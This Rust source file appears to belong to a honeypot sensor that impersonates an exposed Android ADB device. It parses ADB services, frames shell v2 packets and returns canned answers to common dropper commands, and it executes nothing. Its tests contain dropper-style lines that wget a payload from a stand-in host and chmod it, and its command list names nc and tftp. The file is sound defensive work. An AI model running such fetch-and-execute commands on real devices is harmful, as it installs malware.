//! The device behind the bridge: its identity per persona, the services an `OPEN` names, the
//! shell protocol v2 framing, and believable answers to the commands droppers run first.
//!
//! Nothing is executed: a command line gets canned output (or "not found"), its URLs are
//! reported by the caller, and `wget`/`curl` print nothing, as on success.

use crate::config::Persona;

/// An Android device as `adb devices -l` and nmap see it.
#[derive(Debug)]
pub struct Device {
    pub product: &'static str,
    pub model: &'static str,
    pub device: &'static str,
    pub features: &'static str,
    pub uname: &'static str,
    pub release: &'static str,
    pub sdk: &'static str,
    pub abi: &'static str,
}

/// An Android 7.1 TV box (Amlogic S905W): the devices exposed on 5555 by the hundred thousand.
const TV_BOX: Device = Device {
    product: "p281",
    model: "X96mini",
    device: "p281",
    features: "cmd,shell_v2",
    uname: "Linux localhost 3.14.29 #2 SMP PREEMPT Thu Jan 18 16:23:37 CST 2018 armv8l",
    release: "7.1.2",
    sdk: "25",
    abi: "armeabi-v7a",
};

/// A Genymotion Android 7.0 virtual device, as run on servers and desktops.
const EMULATOR: Device = Device {
    product: "vbox86p",
    model: "Samsung Galaxy S8",
    device: "vbox86p",
    features: "cmd,shell_v2",
    uname: "Linux localhost 3.10.0-genymotion-g1d178ae-dirty #1 SMP PREEMPT Wed Jun 7 14:12:16 UTC 2017 i686",
    release: "7.0",
    sdk: "24",
    abi: "x86",
};

/// The device of `persona`.
pub fn device(persona: Persona) -> &'static Device {
    match persona {
        Persona::Mixed | Persona::IotRouter => &TV_BOX,
        Persona::LinuxServer | Persona::WindowsServer => &EMULATOR,
    }
}

/// The `CNXN` identity string (`device::ro.product.name=...;...;features=...`).
pub fn connection_string(d: &Device) -> String {
    format!(
        "device::ro.product.name={};ro.product.model={};ro.product.device={};features={}",
        d.product, d.model, d.device, d.features
    )
}

/// What an `OPEN` asks for.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Service {
    /// `shell:CMD`, `shell,v2,raw:CMD`, `exec:CMD`; an empty command is an interactive shell.
    Shell { v2: bool, pty: bool, command: String },
    /// `sync:` (push, pull, ls).
    Sync,
    /// Anything a device answers with a line and closes (`reboot:`, `root:`, `tcpip:5555`,
    /// `remount:`).
    Oneshot(&'static str),
    /// Refused with `CLSE` (port forwards `tcp:`/`localabstract:`, `jdwp:`, `reverse:`, ...):
    /// the sensor never connects anywhere on the attacker's behalf.
    Refused,
}

/// Parses an `OPEN` service name.
pub fn parse_service(name: &str) -> Service {
    let (head, rest) = name.split_once(':').unwrap_or((name, ""));
    let mut opts = head.split(',');
    let kind = opts.next().unwrap_or("");
    match kind {
        "shell" | "exec" => {
            let opts: Vec<&str> = opts.collect();
            let v2 = kind == "shell" && opts.contains(&"v2");
            // A command runs without a pty unless `pty` is asked for; an interactive shell gets one.
            let pty = opts.contains(&"pty") || (rest.is_empty() && !opts.contains(&"raw"));
            Service::Shell { v2, pty, command: rest.to_string() }
        }
        "sync" => Service::Sync,
        "reboot" => Service::Oneshot(""),
        "root" => Service::Oneshot("adbd is already running as root\n"),
        "unroot" => Service::Oneshot("adbd not running as root\n"),
        "remount" => Service::Oneshot("remount succeeded\n"),
        "tcpip" => Service::Oneshot("restarting in TCP mode port: 5555\n"),
        "usb" => Service::Oneshot("restarting in USB mode\n"),
        "enable-verity" | "disable-verity" => Service::Oneshot("verity not enabled - ENG build\n"),
        _ => Service::Refused,
    }
}

/// Shell protocol v2 packet ids.
pub const ID_STDIN: u8 = 0;
pub const ID_STDOUT: u8 = 1;
pub const ID_EXIT: u8 = 3;
pub const ID_CLOSE_STDIN: u8 = 4;

/// A shell protocol v2 packet: `id`, `len u32 LE`, data.
pub fn v2_packet(id: u8, data: &[u8]) -> Vec<u8> {
    let mut v = vec![id];
    v.extend_from_slice(&(data.len() as u32).to_le_bytes());
    v.extend_from_slice(data);
    v
}

/// Splits a v2 stdin stream into packets: complete packets are taken from the front of `buf`
/// as `(id, data)`; an incomplete one stays. `None` when a packet announces more than `max`.
pub fn take_v2_packets(buf: &mut Vec<u8>, max: usize) -> Option<Vec<(u8, Vec<u8>)>> {
    let mut out = Vec::new();
    let mut at = 0;
    while buf.len() - at >= 5 {
        let len = u32::from_le_bytes([buf[at + 1], buf[at + 2], buf[at + 3], buf[at + 4]]) as usize;
        if len > max {
            return None;
        }
        if buf.len() - at - 5 < len {
            break;
        }
        out.push((buf[at], buf[at + 5..at + 5 + len].to_vec()));
        at += 5 + len;
    }
    buf.drain(..at);
    Some(out)
}

/// The prompt of the device's root shell (mksh: `device:/ #`).
pub fn prompt(d: &Device) -> String {
    format!("{}:/ # ", d.device)
}

/// What the device prints for a command line, and its exit status.
pub fn output(d: &Device, line: &str) -> (String, u8) {
    let mut out = String::new();
    let mut status = 0;
    for cmd in line.split([';', '\n']).flat_map(|c| c.split("&&")).flat_map(|c| c.split("||")).take(32) {
        let cmd = cmd.trim();
        let cmd = cmd.split('|').next().unwrap_or(cmd).trim();
        let mut words = cmd.split_whitespace();
        let Some(first) = words.next() else { continue };
        let name = first.rsplit('/').next().unwrap_or(first);
        let args: Vec<&str> = words.collect();
        let (text, code) = match name {
            "echo" => {
                let shown: Vec<&str> = args.iter().filter(|a| !a.starts_with('-')).map(|a| a.trim_matches(['"', '\''])).collect();
                (format!("{}\n", shown.join(" ")), 0)
            }
            "id" => ("uid=0(root) gid=0(root) groups=0(root),1004(input),1007(log),1011(adb),1015(sdcard_rw),1028(sdcard_r),3001(net_bt_admin),3002(net_bt),3003(inet),3006(net_bw_stats) context=u:r:su:s0\n".to_string(), 0),
            "whoami" => ("root\n".to_string(), 0),
            "uname" => (
                if args.is_empty() { "Linux\n".to_string() } else { format!("{}\n", d.uname) },
                0,
            ),
            "getprop" => (getprop(d, args.first().copied()), 0),
            "pwd" => ("/\n".to_string(), 0),
            "ls" => ("acct\ncache\ncharger\nconfig\nd\ndata\ndefault.prop\ndev\netc\nfile_contexts.bin\ninit\ninit.rc\nmnt\noem\nproc\nroot\nsbin\nsdcard\nstorage\nsys\nsystem\nvendor\n".to_string(), 0),
            "ps" => ("USER      PID   PPID  VSIZE  RSS   WCHAN            PC  NAME\nroot      1     0     11556  1552           0 00000000 S /init\nroot      2418  1     5220   640            0 00000000 S /sbin/adbd\n".to_string(), 0),
            "cat" if args.iter().any(|a| a.contains("cpuinfo")) => (
                if d.abi == "x86" {
                    "processor\t: 0\nvendor_id\t: GenuineIntel\nmodel name\t: Intel(R) Core(TM) i7-8700 CPU @ 3.20GHz\n".to_string()
                } else {
                    "processor\t: 0\nmodel name\t: ARMv8 Processor rev 4 (v8l)\nBogoMIPS\t: 48.00\nFeatures\t: half thumb fastmult vfp edsp neon vfpv3 tls vfpv4 idiva idivt lpae evtstrm aes pmull sha1 sha2 crc32\nHardware\t: Amlogic\n".to_string()
                },
                0,
            ),
            "pm" if args.first() == Some(&"list") => ("package:com.android.settings\npackage:com.android.vending\npackage:com.google.android.youtube.tv\n".to_string(), 0),
            "which" => (args.iter().map(|a| format!("/system/bin/{a}\n")).collect(), 0),
            "cd" | "chmod" | "chown" | "rm" | "mkdir" | "cp" | "mv" | "touch" | "kill" | "killall" | "pkill" | "sleep"
            | "wget" | "curl" | "busybox" | "toybox" | "nohup" | "sh" | "su" | "export" | "setenforce" | "settings"
            | "am" | "pm" | "mount" | "sync" | "true" | "exit" | "cat" | "tftp" | "ftpget" | "nc" | "dd" => (String::new(), 0),
            _ if first.starts_with("./") || first.starts_with("/data/") || first.starts_with("/sdcard/") => (String::new(), 0),
            _ => (format!("/system/bin/sh: {name}: not found\n"), 127),
        };
        out.push_str(&text);
        status = code;
        if out.len() > 16 * 1024 {
            break;
        }
    }
    (out, status)
}

fn getprop(d: &Device, key: Option<&str>) -> String {
    let props = [
        ("ro.product.model", d.model),
        ("ro.product.name", d.product),
        ("ro.product.device", d.device),
        ("ro.build.version.release", d.release),
        ("ro.build.version.sdk", d.sdk),
        ("ro.product.cpu.abi", d.abi),
        ("ro.secure", "0"),
        ("ro.debuggable", "1"),
        ("service.adb.tcp.port", "5555"),
    ];
    match key {
        Some(k) => props
            .iter()
            .find(|(n, _)| *n == k.trim_matches(['"', '\'']))
            .map(|(_, v)| format!("{v}\n"))
            .unwrap_or_else(|| "\n".into()),
        None => props.iter().map(|(n, v)| format!("[{n}]: [{v}]\n")).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn services_and_identity() {
        assert_eq!(
            parse_service("shell,v2,raw:cd /data/local/tmp; wget http://203.0.113.7/x"),
            Service::Shell { v2: true, pty: false, command: "cd /data/local/tmp; wget http://203.0.113.7/x".into() }
        );
        assert_eq!(parse_service("shell:"), Service::Shell { v2: false, pty: true, command: String::new() });
        assert_eq!(
            parse_service("shell,v2,TERM=xterm,pty:"),
            Service::Shell { v2: true, pty: true, command: String::new() }
        );
        assert_eq!(parse_service("exec:cat /x"), Service::Shell { v2: false, pty: false, command: "cat /x".into() });
        assert_eq!(parse_service("sync:"), Service::Sync);
        assert_eq!(parse_service("tcp:8080"), Service::Refused);
        assert!(matches!(parse_service("root:"), Service::Oneshot(m) if m.contains("root")));
        assert_eq!(
            connection_string(device(Persona::Mixed)),
            "device::ro.product.name=p281;ro.product.model=X96mini;ro.product.device=p281;features=cmd,shell_v2"
        );
        assert!(connection_string(device(Persona::LinuxServer)).contains("ro.product.name=vbox86p;"));
    }

    #[test]
    fn canned_output() {
        let d = device(Persona::Mixed);
        assert_eq!(output(d, "cd /data/local/tmp; wget http://x/y; chmod 777 y"), (String::new(), 0));
        assert_eq!(output(d, "echo \"ok\" && getprop ro.product.model").0, "ok\nX96mini\n");
        assert_eq!(output(d, "foo").1, 127);
    }

    #[test]
    fn v2_packets_split_across_reads() {
        let mut wire = v2_packet(ID_STDIN, b"ls\n");
        wire.extend(v2_packet(5, b"24x80,0x0\0"));
        let mut buf = wire[..6].to_vec();
        assert_eq!(take_v2_packets(&mut buf, 1024).unwrap(), vec![]);
        buf.extend_from_slice(&wire[6..]);
        let got = take_v2_packets(&mut buf, 1024).unwrap();
        assert_eq!(got, vec![(ID_STDIN, b"ls\n".to_vec()), (5, b"24x80,0x0\0".to_vec())]);
        assert!(buf.is_empty());
        let mut huge = vec![0, 0xff, 0xff, 0xff, 0xff];
        assert!(take_v2_packets(&mut huge, 1024).is_none());
    }

    #[test]
    fn hostile_input_never_panics() {
        let d = device(Persona::Mixed);
        for b in crate::protocols::hostile::random_inputs(0xadb0_5555_0000_0003, 20_000, 160, false) {
            let text = String::from_utf8_lossy(&b);
            let _ = parse_service(&text);
            let (out, _) = output(d, &text);
            assert!(out.len() < 32 * 1024);
            let mut buf = b.clone();
            let _ = take_v2_packets(&mut buf, 64);
        }
    }
}
